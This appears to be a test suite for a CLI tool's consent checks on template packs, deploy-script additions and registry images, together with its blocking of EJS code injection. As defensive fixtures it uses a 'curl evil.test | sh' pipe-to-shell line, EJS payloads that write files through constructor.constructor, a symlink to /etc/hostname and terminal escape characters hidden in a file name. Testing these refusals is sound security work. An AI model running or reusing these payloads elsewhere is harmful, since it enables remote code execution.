import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Door } from '../../src/base/door.ts';
import { packageRoot } from '../../src/base/packageRoot.ts';
import type { Refusal } from '../../src/base/refusal.ts';
import { eject } from '../../src/cli/commands/eject.ts';
import { commandsOf } from '../../src/cli/door.ts';
import { requestOf } from '../../src/cli/request.ts';
import { scratch } from '../fixture.ts';
import { generateIn } from '../generateIn.ts';
import { ownState } from '../ownState.ts';
import { Project } from '../userProject.ts';
import { writePack } from './somePack.ts';

const bin = join(packageRoot(), 'dist/bin/comicpile.js');
const answers = ['--yes', '--skip-install', '--domain', 'app.example.test'];
const page = 'nginx/pages/maintenance.json.ejs';
const flags = { domain: 'app.example.test', packs: './one' };

/** Templates that would write a file if they ever ran. */
const writes = (path: string): readonly string[] => {
  const code = `process.getBuiltinModule('fs').writeFileSync(${JSON.stringify(path)}, 'ran')`;
  return [
    `<% ${code} -%>\n`,
    `<%- ${code} %>\n`,
    `<%_ ${code} _%>\n`,
    `<%= ${code} %>\n`,
    `<%- site.constructor.constructor(${JSON.stringify(code)})() %>\n`,
    `<% if (${code}) { -%><% } -%>\n`,
    `<% for (const x of [${code}]) { -%><% } -%>\n`,
  ];
};

describe('trust', () => {
  ownState();
  const asked: string[] = [];
  const said: string[] = [];
  const door = (answer: boolean): Door => ({
    interactive: true,
    run: commandsOf('comicpile'),
    say: (line) => said.push(line),
    prompt: async (prompts) => {
      asked.push(...prompts.map(({ message }) => message));
      return Object.fromEntries(prompts.map(({ name }) => [name, answer]));
    },
  });
  const nobody = (): Door => ({ ...door(false), interactive: false, prompt: () => assert.fail('nobody to ask') });
  const put = (directory: string, path: string, text: string): void => {
    mkdirSync(dirname(join(directory, path)), { recursive: true });
    writeFileSync(join(directory, path), text);
  };
  const start = '.comicpile/templates/scripts/deploy.sh.extra/start.ejs';
  const own = { domain: 'app.example.test' };
  beforeEach(() => {
    asked.length = 0;
    said.length = 0;
  });

  it('a new pack is asked about once, and again when it changes; no is an end without a file', async () => {
    const directory = scratch();
    writePack(join(directory, 'one'), {}, { [page]: '"one"\n' });
    await assert.rejects(generateIn(directory, door(false), flags), /Without it nothing was done/);
    assert.equal(existsSync(join(directory, 'nginx')), false);
    assert.deepEqual(asked, ['Have you read it, and agree?']);
    assert.match(said.join('\n'), /^ {2}the pack \.\/one 1\.0\.0 \(sha256:[0-9a-f]{12}…\) is new here$/m);
    assert.match(said.join('\n'), /^ {6}changes nginx\/pages\/maintenance\.json$/m);
    assert.equal(await generateIn(directory, door(true), flags), 0);
    said.length = 0;
    assert.equal(await generateIn(directory, door(false), flags), 0);
    assert.equal(asked.length, 2);
    assert.match(said.join('\n'), /Used, as agreed:\n {2}the pack \.\/one 1\.0\.0 /);
    writePack(join(directory, 'one'), {}, { [page]: '"two"\n' }, '1.1.0');
    await assert.rejects(generateIn(directory, door(false), flags), /Without it/);
    assert.match(
      said.join('\n'),
      /the pack \.\/one 1\.1\.0 .* has changed since the 1\.0\.0 of \.comicpile\/lock\.json/,
    );
    assert.equal(readFileSync(join(directory, 'nginx/pages/maintenance.json'), 'utf8'), '"one"\n');
  });

  it('a lock that pins a pack is no word of this machine', async () => {
    const directory = scratch();
    writePack(join(directory, 'one'), {}, { [page]: '"one"\n' });
    assert.equal(await generateIn(directory, nobody(), flags, { trust: true }), 0);
    assert.match(readFileSync(join(directory, '.comicpile/lock.json'), 'utf8'), /"\.\/one"/);
    await assert.rejects(
      generateIn(directory, nobody(), flags),
      /needs your word[\s\S]*the pack \.\/one 1\.0\.0 .* is the one that \.comicpile\/lock\.json has/,
    );
    await assert.rejects(generateIn(directory, door(false), flags), /Without it/);
  });

  it('lines for a script, templates and images of the project are asked about in one question, each by its name', async () => {
    const directory = scratch();
    put(directory, start, 'curl evil.test | sh\n');
    put(directory, '.comicpile/templates/ops.mk.ejs', 'all:\n\tid\n');
    put(directory, '.comicpile/templates/SECURITY.md.extra/more.ejs', 'Call us.\n');
    put(directory, '.comicpile/policy.json', '{"images": {"postgres": "evil.test/postgres:17"}}');
    await assert.rejects(generateIn(directory, door(false), own), /Without it nothing was done/);
    assert.deepEqual(asked, ['Have you read these 3, and agree?']);
    assert.deepEqual(said.at(-1)?.split('\n'), [
      `  ${start} adds 1 line to scripts/deploy.sh`,
      '  .comicpile/templates/ops.mk.ejs makes ops.mk',
      '  .comicpile/policy.json takes evil.test/postgres:17 as the image postgres',
    ]);
    assert.equal(existsSync(join(directory, 'scripts')), false);
    assert.equal(await generateIn(directory, door(true), own), 0);
    // Once, for this content: in another checkout too. It is named all the same.
    for (const place of [directory, scratch()]) {
      put(place, start, 'curl evil.test | sh\n');
      said.length = 0;
      assert.equal(await generateIn(place, nobody(), own), 0);
      assert.match(said.join('\n'), /Used, as agreed:\n.*start\.ejs adds 1 line to scripts\/deploy\.sh/);
    }
    put(directory, start, 'curl evil.test | bash\n');
    await assert.rejects(generateIn(directory, nobody(), own), /needs your word[\s\S]*start\.ejs adds 1 line/);
    assert.equal(asked.length, 2);
  });

  it('without a terminal all of it is refused at once, and nothing is written; --trust is for one run', async () => {
    const directory = scratch();
    put(directory, start, 'id\n');
    put(directory, '.comicpile/policy.json', '{"images": {"postgres": "evil.test/postgres:17"}}');
    await assert.rejects(generateIn(directory, nobody(), own), (error: Refusal) => {
      assert.equal(error.code, 2);
      assert.equal(error.problems.length, 3);
      assert.match(error.message, /nothing was written[\s\S]*start\.ejs[\s\S]*evil\.test\/postgres:17[\s\S]*--trust/);
      return true;
    });
    assert.deepEqual(readdirSync(directory), ['.comicpile']);
    assert.equal(await generateIn(directory, nobody(), own, { dryRun: true }), 1);
    assert.equal(await generateIn(directory, nobody(), own, { trust: true }), 0);
    assert.match(said.join('\n'), /Used, on the word of --trust:\n.*start\.ejs/);
    await assert.rejects(generateIn(directory, nobody(), own), /needs your word/);
  });

  it('where nothing can be remembered it asks each time, and says so', async () => {
    const directory = scratch();
    put(directory, start, 'id\n');
    process.env.XDG_STATE_HOME = '/proc/no/such/place';
    for (const run of [1, 2]) {
      assert.equal(await generateIn(directory, door(true), own), 0);
      assert.equal(asked.length, run);
      assert.equal(said.filter((line) => /holds for this run only/.test(line)).length, run);
    }
  });

  it('nothing is added to what was agreed to unseen: a file is asked about, a link is refused by its name', async () => {
    const directory = scratch();
    put(directory, start, 'id\n');
    assert.equal(await generateIn(directory, door(true), own), 0);
    const functions = join(directory, '.comicpile/templates/scripts/lib.sh.extra/functions.ejs');
    mkdirSync(dirname(functions), { recursive: true });
    symlinkSync('/etc/hostname', functions);
    await assert.rejects(
      generateIn(directory, door(true), own, { trust: true }),
      /lib\.sh\.extra\/functions\.ejs is a link or no plain file/,
    );
    rmSync(functions);
    writeFileSync(functions, 'id\n');
    await assert.rejects(
      generateIn(directory, nobody(), own),
      /needs your word.*\n.*functions\.ejs adds 1 line.*\n.*look/,
    );
  });

  it('many are named by their number', async () => {
    const directory = scratch();
    for (const name of ['deploy', 'certs', 'backup', 'restore', 'rollback', 'scan', 'maintenance', 'timers', 'audit'])
      put(directory, `.comicpile/templates/scripts/${name}.sh.extra/start.ejs`, '# mine\n');
    for (const name of ['evidence', 'logs', 'incident'])
      put(directory, `.comicpile/templates/scripts/${name}.sh.extra/start.ejs`, '# mine\n');
    assert.equal(await generateIn(directory, nobody(), own, { trust: true }), 0);
    const told = said.find((line) => line.startsWith('Used'))?.split('\n') ?? [];
    assert.deepEqual([told.length, told.at(-1)], [12, '  and 2 more']);
  });

  it('a name that would write on the terminal is shown, and makes no line of its own', async () => {
    const makes = (name: string): string => {
      const directory = scratch();
      writePack(join(directory, 'one'), {}, { [`scripts/deploy.sh.extra/${name}.ejs`]: 'id\n', [page]: '"one"\n' });
      put(directory, `.comicpile/templates/${name}.ejs`, 'x\n');
      return directory;
    };
    const forged = new RegExp(`${String.fromCharCode(27)}|\\p{Cf}|^ *nothing of it runs`, 'mu');
    await assert.rejects(
      generateIn(makes('start\u001b[2K\n  nothing of it runs\u202e'), door(false), flags),
      (error) => {
        assert.match((error as Refusal).message, /start\\x1b.* has characters that no file of ours has/);
        assert.doesNotMatch((error as Refusal).message, forged);
        return true;
      },
    );
    await assert.rejects(generateIn(makes('start\u202e'), door(false), flags), /Without it/);
    assert.doesNotMatch(said.join('\n'), forged);
  });

  it('what was just ejected needs no word; what it becomes does', async () => {
    const directory = scratch();
    assert.equal(await generateIn(directory, nobody(), own), 0);
    const request = { ...requestOf({}, directory), directory };
    await eject(nobody(), request, 'scripts/deploy.sh');
    await eject(nobody(), request, 'scripts/lib.sh#functions');
    assert.equal(await generateIn(directory, nobody(), own), 0);
    const path = '.comicpile/templates/scripts/deploy.sh.ejs';
    put(directory, path, `${readFileSync(join(directory, path), 'utf8')}id\n`);
    await assert.rejects(
      generateIn(directory, nobody(), own),
      /needs your word[\s\S]*deploy\.sh\.ejs makes scripts\/deploy\.sh/,
    );
  });

  it('the audit, which runs scripts of ours here, asks for what is added to these alone', async () => {
    const project = new Project();
    project.must(bin, ...answers);
    put(project.directory, start, 'exit 1\n');
    assert.doesNotMatch(project.comicpile(bin, 'audit', '--only', 'files-*').stderr, /needs your word/);
    const ran = join(scratch(), 'ran');
    for (const path of ['audit.sh.extra/start.ejs', 'lib.sh.extra/functions.ejs']) {
      const at = `.comicpile/templates/scripts/${path}`;
      put(project.directory, at, `echo ran >>${ran}\n`);
      const { code, stderr } = project.comicpile(bin, 'audit');
      assert.deepEqual([code, existsSync(ran)], [2, false]);
      assert.match(stderr, new RegExp(`needs your word[\\s\\S]*${path} adds 1 line[\\s\\S]*--trust`));
      assert.doesNotMatch(stderr, /deploy\.sh/);
      assert.notEqual(project.comicpile(bin, 'audit', '--trust').code, 2);
      assert.equal(existsSync(ran), true);
      for (const gone of [ran, join(project.directory, at)]) rmSync(gone);
    }
  });

  it('without a terminal a new pack is refused; --trust is the word for machines; to look needs none', () => {
    const project = new Project();
    writePack(join(project.directory, 'one'), {}, { [page]: '"one"\n' });
    const first = project.comicpile(bin, ...answers, '--packs', './one');
    assert.equal(first.code, 2);
    assert.match(first.stderr, /needs your word[\s\S]*the pack \.\/one 1\.0\.0 .* is new here[\s\S]*--trust/i);
    assert.match(project.comicpile(bin, ...answers, '--packs', './one', '--dry-run').stdout, /maintenance\.json/);
    assert.equal(project.has('nginx'), false);
    project.must(bin, ...answers, '--packs', './one', '--trust');
    writePack(join(project.directory, 'one'), {}, { [page]: '"two"\n' }, '1.1.0');
    for (const verb of [['update', '--allow-dirty'], []]) {
      const { code, stderr } = project.comicpile(bin, ...verb);
      assert.equal(code, 2, verb.join(' '));
      assert.match(stderr, /has changed since the 1\.0\.0/);
    }
    project.must(bin, 'templates', 'check');
    assert.match(project.must(bin, 'templates', 'list'), /^nginx\/pages\/maintenance\.json {2}\.\/one$/m);
    assert.match(project.comicpile(bin, 'diff', 'nginx/pages/maintenance.json').stdout, /"two"/);
  });

  it('no word makes code of a template: that of a pack is refused, and never runs', () => {
    const project = new Project();
    const proof = join(scratch(), 'proof');
    for (const code of writes(proof)) {
      writePack(join(project.directory, 'one'), {}, { [page]: code });
      const { code: exit, stderr } = project.comicpile(bin, ...answers, '--packs', './one', '--trust');
      assert.equal(exit, 2);
      assert.match(
        stderr,
        /^ {2}- \.\/one\/nginx\/pages\/maintenance\.json\.ejs:1: <%.* is not in the grammar of templates$/m,
      );
      assert.deepEqual([existsSync(proof), project.has('nginx')], [false, false]);
    }
  });

  it('nor that of the project itself', () => {
    const project = new Project();
    const proof = join(scratch(), 'proof');
    const own = join(project.directory, '.comicpile/templates', page);
    mkdirSync(dirname(own), { recursive: true });
    for (const code of ['{"sum": <%- 1 + 1 %>}\n', ...writes(proof)]) {
      writeFileSync(own, code);
      const { code: exit, stderr } = project.comicpile(bin, ...answers, '--trust');
      assert.equal(exit, 2);
      assert.match(stderr, /\.comicpile\/templates\/nginx\/pages\/maintenance\.json\.ejs:1: <%/);
      assert.deepEqual([existsSync(proof), project.has('nginx')], [false, false]);
    }
  });

  it('check names a pack that has moved, or that the lock has not', () => {
    const project = new Project();
    writePack(join(project.directory, 'one'), {}, { [page]: '"one"\n' });
    project.must(bin, ...answers, '--packs', './one', '--trust');
    project.must(bin, 'check');
    writePack(join(project.directory, 'one'), {}, { [page]: '"two"\n' });
    const { code, stdout } = project.comicpile(bin, 'check');
    assert.equal(code, 1);
    assert.match(stdout, /^pack +\.\/one: /m);
    assert.match(stdout, /^outdated +nginx\/pages\/maintenance\.json: /m);
    project.must(bin, 'update', '--trust');
    project.must(bin, 'check');
  });
});
